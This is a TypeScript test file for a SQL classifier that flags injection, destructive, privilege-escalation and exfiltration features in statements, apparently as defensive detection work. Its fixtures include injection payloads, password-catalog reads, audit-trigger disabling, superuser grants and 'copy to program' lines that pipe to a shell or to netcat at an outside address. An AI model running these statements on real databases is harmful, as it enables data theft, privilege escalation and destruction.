import test from 'ava';
import fc from 'fast-check';
import { bagOf, maskedWords } from '../../classifier/features/bag.ts';
import {
  factsOf,
  rowOf,
  STATEMENT_FEATURE_NAMES,
  STATEMENT_FEATURES,
  type StatementFeature,
} from '../../classifier/features/statement-features.ts';
import { tokensOf } from '../../classifier/lexer.ts';

/** Features that a statement has, and features that it has not. */
const table: readonly (readonly [string, readonly StatementFeature[], readonly StatementFeature[]])[] = [
  [
    'select id from t where id = 1',
    ['isSelect', 'pointLookups', 'columnTerms'],
    ['constantTerms', 'wholeRead'],
  ],
  ['select * from t', ['wholeRead', 'stars'], ['countsOnly']],
  ['select count(*) from t', ['countsOnly'], ['wholeRead']],
  ['select * from t where a = 1 or 2=2', ['constantTermsUnderOr', 'alwaysTrue'], ['fillerTerms']],
  ['select * from t where 1=1 and a = 2', ['fillerTerms'], ['constantTerms', 'alwaysTrue']],
  [
    'select a from t where b = 1 union select null, version()',
    ['unevenArms', 'armsWithoutTable', 'nullColumns', 'constantColumns'],
    [],
  ],
  [
    'select a from t where b = 1 and (select pg_sleep(3)) is null',
    ['delay', 'tablelessQueries'],
    ['wholeRead'],
  ],
  [
    "select a from t where b = (1=1)*5 and 'x' || (select c from u) = ''",
    ['conditionsAsNumbers', 'queriesInStrings'],
    [],
  ],
  ['select a from t where b = chr(65)||chr(66)', ['codeChains'], []],
  ['update t set a = 1 or true where b = 2', ['conditionsAsValues', 'alwaysTrue'], []],
  ['insert into t values (1 or a = a)', ['conditionsAsValues', 'selfComparisonsUnderOr'], []],
  ['select a or b from t', [], ['conditionsAsValues']],
  ["select a from t where b = '' -- and c = 1", ['commentedSql', 'emptyStrings'], []],
  ['select a from t where b = 1 /* route=orders, app=web */', [], ['commentedSql', 'emptyClosingComment']],
  [
    "select a from t where b = ') union all select null, null from users'",
    ['innerKeywords', 'innerUnbalanced'],
    ['setOperations'],
  ],
  ['select a from t where b = 1 %" or sleep(4) and "%"="x"', ['oddNames', 'innerCalls'], []],
  ['delete from t', ['deletesAll', 'changesAll'], ['joinedDelete']],
  ['delete from t where a = a', ['deletesAll'], []],
  ['delete from t a using t b', ['joinedDelete'], ['deletesAll']],
  ['update t set a = 1 where id = 2', ['isUpdate'], ['changesAll']],
  ['drop table a, b', ['dropsTables', 'isDrop'], ['dropsMinor']],
  ['drop index i', ['dropsMinor'], ['dropsTables']],
  ['drop table t; create table u(a text)', ['dropThenOther', 'stackedKinds'], []],
  ['drop table t; create table t(a text)', ['stackedKinds'], ['dropThenOther']],
  ['drop database d with (force)', ['dropsByForce', 'dropsDatabases'], []],
  ['create table read_me(a text)', ['ransomNotes', 'createsTables'], []],
  ["insert into t values (1, 'send 0.1 btc to recover your data')", ['ransomNotes'], []],
  ['create language plperlu', ['untrustedCode', 'reaches'], []],
  ['create extension hstore', ['extensions'], ['reachingExtensions', 'reaches']],
  ['create extension dblink', ['reachingExtensions', 'reaches'], []],
  ["do $$ begin execute 'alter role a superuser'; end $$", ['bodyPowers', 'bodyBuilds', 'powers'], []],
  [
    "do $$ begin execute format('create index on %I (a)', t); end $$",
    ['bodyBuilds'],
    ['bodyPowers', 'powers'],
  ],
  ["do $$ begin execute 'copy t to program ''sh'''; end $$", ['bodyReaches', 'reaches'], []],
  ['do $$ begin drop table t; end $$', ['bodyDestroys'], ['bodyReaches']],
  ['create role a in role pg_execute_server_program', ['grantsRoles', 'powers'], []],
  ['grant execute on function pg_read_file(text) to a', ['grantsRoles', 'powers'], []],
  ['set role postgres', ['takesRoles', 'powers'], []],
  ['set role app', [], ['takesRoles', 'powers']],
  ["alter system set log_statement = 'none'", ['systemSettings', 'guardSettings'], []],
  ['create index concurrently on t (a)', ['maintains'], []],
  ["copy t to program 'nc 192.0.2.1 80'", ['copyProgram', 'copyOut'], ['copyFile', 'copyIn']],
  ["copy t from '/tmp/x.csv'", ['copyFile', 'copyIn', 'pathsInLiterals'], ['copyOut']],
  ['grant postgres to bob', ['grantsRoles'], ['grantsToAll']],
  ['grant all on t to public', ['grantsAll', 'grantsToAll'], ['grantsRoles']],
  ['alter role bob superuser', ['makesSuperusers'], []],
  ['alter role bob nosuperuser', ['makesRoles'], ['makesSuperusers']],
  ["set log_statement = 'none'", ['guardSettings'], ['systemSettings']],
  ['alter table t disable trigger all', ['switchesTriggersOff'], ['switchesGuardsOff', 'powers']],
  ['alter table audit.events disable trigger all', ['changesTrails', 'powers'], []],
  ['alter table t disable row level security', ['switchesGuardsOff', 'powers'], []],
  ['create function f() returns int as $$ x $$ language plpython3u', ['untrustedCode'], []],
  [
    'select rolpassword from pg_authid',
    ['secretCatalogs', 'secretColumns', 'catalogTables'],
    ['foreignCatalogs'],
  ],
  ["insert into pg_largeobject values (1, 0, '\\x00')", ['changesCatalogs', 'powers'], []],
  ['delete from "Users"', [], ['changesCatalogs']],
  ['reassign owned by a to b', ['reassignsAll', 'powers'], []],
  ['alter table t owner to b', ['changesOwner'], ['reassignsAll', 'powers']],
  ["insert into t values (decode('00ff', 'hex'))", ['calls'], ['hiding']],
  ["select encode(a, 'hex') from t", ['hiding'], []],
  ['select usename from pg_shadow', ['secretCatalogs'], ['secretColumns']],
  ['table pg_shadow', ['secretColumns'], []],
  ['select a from t where b = (select count(*) from pg_roles)', ['catalogInside'], ['queryTerms']],
  [
    'select * from pg_class c, pg_namespace n where n.oid = c.relnamespace',
    ['catalogTables'],
    ['catalogInside', 'crossJoins'],
  ],
  ['select * from a, b', ['crossJoins'], ['selfCrossJoins']],
  ['select * from a x, a y', ['selfCrossJoins'], []],
  ['select a from t limit 1 offset 7', ['oneRowWalks', 'offset'], []],
  ['select 1 order by 4', ['ordinalBeyond'], []],
  ['with t as (select 1 as a) select a from t', ['commonTables'], ['relations']],
  ['selec a form t', ['parseFailed'], ['isSelect']],
  ['select a from t where b = :x::text', ['parseFailed', 'parameters'], []],
  ['declare c cursor with hold for select * from t', ['cursors', 'holdCursors'], []],
  ['select a from t where b % 20 = 0', [], ['percentCodes']],
  ["select a from t where b = '1%27 or 1'", ['percentCodes'], []],
  ['select a from t where b=-1', [], ['unknownOperators']],
];
for (const [sql, present, absent] of table)
  test(`features of ${sql}`, (t) => {
    const { tally } = factsOf(sql);
    t.deepEqual(
      present.filter((name) => tally[name] === 0),
      [],
    );
    t.deepEqual(
      absent.filter((name) => tally[name] !== 0),
      [],
    );
  });

test('each feature has a name and a sentence of its own', (t) => {
  const sentences = STATEMENT_FEATURE_NAMES.map((name) => STATEMENT_FEATURES[name].sentence);
  t.is(new Set(sentences).size, sentences.length);
  t.true(sentences.every((sentence) => sentence.length > 4));
});

test('names and values leave features and wording as they are', (t) => {
  const one = "select o.total from shop.orders o where o.code = 'abcd' and o.n in (17, 25) limit 10";
  const other = "select x.price from depot.parts x where x.item = 'qrst' and x.k in (91, 33) limit 10";
  t.deepEqual(rowOf(factsOf(one)), rowOf(factsOf(other)));
  t.deepEqual(maskedWords(tokensOf(one)), maskedWords(tokensOf(other)));
});

test('case and blanks leave the wording as it is', (t) => {
  t.deepEqual(bagOf(tokensOf('SELECT a  FROM t\nWHERE b=1')), bagOf(tokensOf('select a from t where b = 1')));
});

test('any text has finite features', (t) => {
  t.notThrows(() =>
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 300 }), (sql) =>
        rowOf(factsOf(sql)).every(Number.isFinite),
      ),
      { numRuns: 300 },
    ),
  );
});

test('a text that would overflow the parser is measured without it', (t) => {
  const { statements, tally } = factsOf(`select ${'+'.repeat(20_000)}1`);
  t.is(statements, null);
  t.is(tally.parseFailed, 1);
  t.not(factsOf('select 1').statements, null);
});
